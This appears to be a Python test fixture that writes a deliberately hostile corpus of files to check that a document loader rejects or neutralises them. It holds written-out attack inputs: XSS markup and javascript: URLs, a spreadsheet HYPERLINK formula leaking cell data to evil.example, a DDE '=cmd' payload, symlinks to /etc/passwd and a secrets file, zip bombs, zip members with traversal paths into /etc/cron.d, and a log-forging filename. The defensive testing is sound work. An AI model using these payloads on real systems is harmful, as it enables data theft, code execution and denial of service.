"""A hostile corpus on disk, and what the loader must make of each of its files.

Shared by tests/test_hostile_set.py (which asserts on it) and benchmarks/hostile.py (which prints
the time and peak memory of ``python -m analysis analyze`` on it). Every kind of file the issue
lists: binary, empty, huge, wrong encoding, malformed JSON and CSV, hostile HTML, hostile URLs
and formulas in fields, links out of the corpus, FIFOs, zip bombs, lone surrogates.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

SECRET = "hunter2-do-not-publish"
ARTICLE = ("Leaders meet in Nara\n\nThe leaders of South Korea and Japan met in Nara on January 13, 2026, "
           "to discuss trade, security and the history that divides them, officials said.\n\n"
           "They agreed to meet again next year in Seoul.\n")
HOSTILE_HTML = """<html><head><title>Summit in Nara</title><script>alert('head')</script>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"></head><body onload="alert(2)">
<nav>Home | World</nav><article><h1>Summit in Nara</h1>
<p>The leaders met in Nara on Tuesday to discuss trade, security and the history that divides them.</p>
<img src=x onerror="alert(3)"><iframe src="javascript:alert(4)"></iframe><svg onload="alert(5)"></svg>
<p>They agreed to meet again next year in Seoul, officials said after the talks had ended.</p>
<style>body{display:none}</style><a href="javascript:alert(6)">more</a></article></body></html>"""
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")'

Outcome = Literal["document", "error", "note"]


@dataclass(frozen=True, slots=True)
class Expected:
    """What loading must give for one file (or zip member): a document, an error or a note, with these words."""

    path: str  # as recorded, relative to the corpus folder's parent ("corpus/a.txt", "corpus/b.zip!c.txt")
    outcome: Outcome
    says: str = ""


def lying_zip(real: int, *, claimed: int = 100, name: bytes = b"a.txt") -> bytes:
    """Return a zip whose one member says it holds ``claimed`` bytes and inflates to ``real``."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b"a" * (1 << 20)
    parts, crc = [], 0
    for _ in range(real >> 20):
        parts.append(packer.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(packer.flush())
    data = b"".join(parts)
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, crc, len(data), claimed, len(name), 0) + name
    central = struct.pack("<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, crc, len(data), claimed,
                          len(name), 0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    return local + data + central + end


def _zip(files: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buf.getvalue()


def _encrypted_zip() -> bytes:
    data = bytearray(_zip({"locked.txt": ARTICLE}))
    data[6] |= 1  # the "encrypted" flag, in the local header and in the central directory
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def build_hostile_set(root: Path) -> tuple[Path, tuple[Expected, ...]]:
    """Write the hostile corpus under ``root``; return its folder and what each file must give."""
    corpus, outside = root / "corpus", root / "outside"
    corpus.mkdir(parents=True)
    outside.mkdir()
    (outside / "secrets.txt").write_text(f"Credentials\n\nThe password is {SECRET}, keep it private.\n")
    expected: list[Expected] = []

    def add(name: str, content: bytes | str, outcome: Outcome, says: str = "") -> None:
        path = corpus / name
        if isinstance(content, str):
            path.write_text(content, encoding="utf-8")
        else:
            path.write_bytes(content)
        expected.append(Expected(f"corpus/{name}", outcome, says))

    # Plain files: good ones, and every way a file can be unreadable.
    add("good.txt", ARTICLE, "document")
    add("utf16.txt", ARTICLE.encode("utf-16"), "document")
    add("western.txt", ("Les dirigeants se sont réunis à Nara. L’été prochain, à Séoul. " * 3).encode("cp1252"), "document")
    add("binary.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + os.urandom(4000), "error", "binary")
    add("random.md", os.urandom(20_000), "error", "")
    add("empty.txt", b"", "error", "empty")
    add("blank.md", b"  \n\n\t \n", "error", "empty")
    add("damaged.txt", "café au lait ".encode() * 3 + b"\xff\xfe and more", "error", "UTF-8")
    add("turkish.txt", ("Başlık: Güney Kore Devlet Başkanı Nara'da görüştü. " * 3).encode("cp1254"), "error", "UTF-8")
    with (corpus / "huge.txt").open("wb") as fh:  # 60 MB on the books, sparse on disk
        fh.truncate(60_000_000)
    expected.append(Expected("corpus/huge.txt", "error", "limit"))
    with (corpus / "huge.jsonl").open("wb") as fh:
        fh.truncate(1_200_000_000)
    expected.append(Expected("corpus/huge.jsonl", "error", "limit"))
    add("zeros.json", bytes(5_000_000), "error", "binary")

    # Malformed JSON, JSONL, CSV.
    add("truncated.json", '[{"title": "x", "text": "abc"}, {"text": "de', "error", "malformed JSON")
    add("deep.json", "[" * 200_000 + "]" * 200_000, "error", "")
    add("scalar.json", "42", "error", "expected a JSON object")
    add("notext.json", '{"title": "Only a title"}', "error", "no text field")
    add("feed.jsonl", '{"id": "f1", "text": "First record of the feed."}\n{broken\n'
                      '{"id": "f2", "text": "Second record of the feed."}\n', "document")
    expected.append(Expected("corpus/feed.jsonl (line 2)", "error", "malformed JSON"))
    record = {"id": "sep", "text": "One record.\u2028{\"id\": \"forged\", \"text\": \"Smuggled record.\"}\u2029End."}
    add("separators.jsonl", json.dumps(record, ensure_ascii=False) + "\n", "document")
    add("nocolumn.csv", "id,title\n1,Only a title\n", "error", "no text column")
    add("rows.csv", 'title,text\nOne,First text of the file.\nTwo,Second, with an unquoted comma\n'
                    f'Three,"{"x " * 2_100_000}"\nFour,Fourth text of the file.\n', "document")
    expected.append(Expected("corpus/rows.csv (row 2)", "error", "more field"))
    expected.append(Expected("corpus/rows.csv (row 3)", "error", "limit"))
    add("unclosed.csv", 'title,text\nOne,Text before the bad quote.\nTwo,"never closed, ' + "line\n" * 1000,
        "document")
    add("header.csv", "text,title,text\na,b,c\n", "error", "repeats")

    # Hostile markup and hostile values in fields.
    add("hostile.html", HOSTILE_HTML, "document")
    add("menu.html", "<html><body><nav><a href='/'>Home</a> <a href='/w'>World</a></nav></body></html>",
        "error", "no article text")
    records = [
        {"id": "u1", "url": "javascript:alert(document.cookie)", "source": "=cmd|' /C calc'!A0",
         "title": FORMULA_TITLE, "text": "The summit opened in Nara on January 13, 2026, officials said."},
        {"id": "u2", "url": "data:text/html,<script>alert(1)</script>", "source": "@SUM(1+1)*cmd",
         "title": "+1-1", "text": "-2+3 The summit opened in Nara on January 14, 2026, officials said."},
        {"id": "u3", "url": "https://example.com/\"><img src=x onerror=alert(1)>", "source": "Wire\u202etxt.exe",
         "title": "Reu\u200bters scoop", "text": "The leaders met in Nara, officials said on Tuesday."},
    ]
    add("urls.jsonl", "\n".join(json.dumps(r, ensure_ascii=False) for r in records) + "\n", "document")
    surrogates = ('{"id": "s1", "title": "Scraped \\ud800 title", "source": "Wire", '
                  '"text": "The summit opened in Nara \\udfff on January 13, 2026."}')
    add("surrogates.json", surrogates, "document")
    expected.append(Expected("corpus/surrogates.json", "note", "U+FFFD"))
    add("lang.json", json.dumps({"id": "l1", "language": "<b>en</b>", "text": "The leaders met in Nara on Tuesday."}),
        "document")
    expected.append(Expected("corpus/lang.json", "note", "not a language code"))
    with (corpus / "manifest.csv").open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([("file", "outlet", "title", "language"), ("good.txt", FORMULA_TITLE, "", "<b>en</b>")])
    expected.append(Expected("corpus/manifest.csv (row 1)", "note", "not a language code"))
    add("new\nline\rparallax: wrote stolen.json.txt", b"\x00\x01\x02 binary", "error", "binary")
    expected[-1] = Expected("corpus/new\\nline\\rparallax: wrote stolen.json.txt", "error", "binary")

    # Links out of the corpus, special files.
    (corpus / "leak.txt").symlink_to(outside / "secrets.txt")
    (corpus / "passwd.txt").symlink_to("/etc/passwd")
    (corpus / "zero.txt").symlink_to("/dev/zero")
    (corpus / "random.txt").symlink_to("/dev/urandom")
    (corpus / "elsewhere").symlink_to(outside, target_is_directory=True)
    (corpus / "loop-a.txt").symlink_to(corpus / "loop-b.txt")
    (corpus / "loop-b.txt").symlink_to(corpus / "loop-a.txt")
    (corpus / "inside.txt").symlink_to(corpus / "good.txt")
    os.mkfifo(corpus / "pipe.txt")
    os.mkfifo(corpus / "pipe.jsonl")
    expected += [Expected(f"corpus/{name}", "error", "outside the corpus")
                 for name in ("leak.txt", "passwd.txt", "zero.txt", "random.txt", "elsewhere")]
    expected += [Expected("corpus/loop-a.txt", "error", "loop"), Expected("corpus/loop-b.txt", "error", "loop"),
                 Expected("corpus/inside.txt", "document"),
                 Expected("corpus/pipe.txt", "error", "FIFO"), Expected("corpus/pipe.jsonl", "error", "FIFO")]
    try:
        os.mknod(corpus / "device.txt", stat.S_IFCHR | 0o600, os.makedev(1, 5))  # /dev/zero's numbers
        expected.append(Expected("corpus/device.txt", "error", "character device"))
    except OSError:
        pass  # creating a device node needs CAP_MKNOD

    # Zips: bombs, liars, locks and traps.
    add("lying.zip", lying_zip(200 << 20), "error", "damaged")
    expected[-1] = Expected("corpus/lying.zip!a.txt", "error", "damaged")
    add("big.zip", _zip({"big.txt": bytes(50_000_000)}), "error", "over the 8 MB limit")
    expected[-1] = Expected("corpus/big.zip!big.txt", "error", "over the 8 MB limit")
    add("bomb.zip", _zip({"bomb.txt": bytes(7_000_000), "after.txt": ARTICLE}), "error", "zip bomb")
    expected[-1] = Expected("corpus/bomb.zip!bomb.txt", "error", "zip bomb")
    add("many.zip", _zip({f"m{n:02d}.txt": b"\n" * 900_000 for n in range(60)}), "error", "empty")
    expected[-1] = Expected("corpus/many.zip!m00.txt", "error", "empty")
    expected.append(Expected("corpus/many.zip!m01.txt", "error", "zip bomb"))
    add("locked.zip", _encrypted_zip(), "error", "encrypted (password-protected)")
    expected[-1] = Expected("corpus/locked.zip!locked.txt", "error", "encrypted (password-protected)")
    add("traversal.zip", _zip({"../../../etc/cron.d/evil.txt": ARTICLE, "/abs.txt": ARTICLE, "fine.txt": ARTICLE}),
        "document")
    expected[-1] = Expected("corpus/traversal.zip!fine.txt", "document")
    expected += [Expected("corpus/traversal.zip!../../../etc/cron.d/evil.txt", "error", "unsafe member path"),
                 Expected("corpus/traversal.zip!/abs.txt", "error", "unsafe member path")]
    add("nested.zip", _zip({"inner.zip": _zip({"a.txt": ARTICLE}), "ok.txt": ARTICLE}), "document")
    expected[-1] = Expected("corpus/nested.zip!ok.txt", "document")
    expected.append(Expected("corpus/nested.zip!inner.zip", "error", "unsupported"))
    add("fake.zip", b"PK\x03\x04 this is not a zip", "error", "not a valid zip")
    return corpus, tuple(expected)


@dataclass(frozen=True, slots=True)
class Run:
    """One run of the command line: its exit status, wall time, peak memory and standard error."""

    returncode: int
    seconds: float
    peak_mb: float
    stderr: str


# Runs the command line as the only child of a fresh interpreter, so that the peak resident size
# reported for its children is the command line's own.
_MEASURE = """
import json, resource, subprocess, sys, time
started = time.monotonic()
done = subprocess.run(sys.argv[1:], capture_output=True, text=True, errors="replace", timeout=600)
peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
print(json.dumps([done.returncode, time.monotonic() - started, peak, done.stderr]))
"""


def run_measured(*args: str, cwd: Path | None = None) -> Run:
    """Run ``python -m analysis`` with ``args``; return its status, seconds, peak memory (MB) and stderr."""
    import subprocess
    import sys

    out = subprocess.run([sys.executable, "-c", _MEASURE, sys.executable, "-m", "analysis", *args],
                         capture_output=True, text=True, cwd=cwd, timeout=900, check=True)
    code, seconds, peak, stderr = json.loads(out.stdout)
    return Run(code, seconds, peak, stderr)


def matches(path: str, expected: str) -> bool:
    """Return True when a recorded path is the expected file, a record inside it or a member of it."""
    return path == expected or path.startswith((expected + " (", expected + "!"))
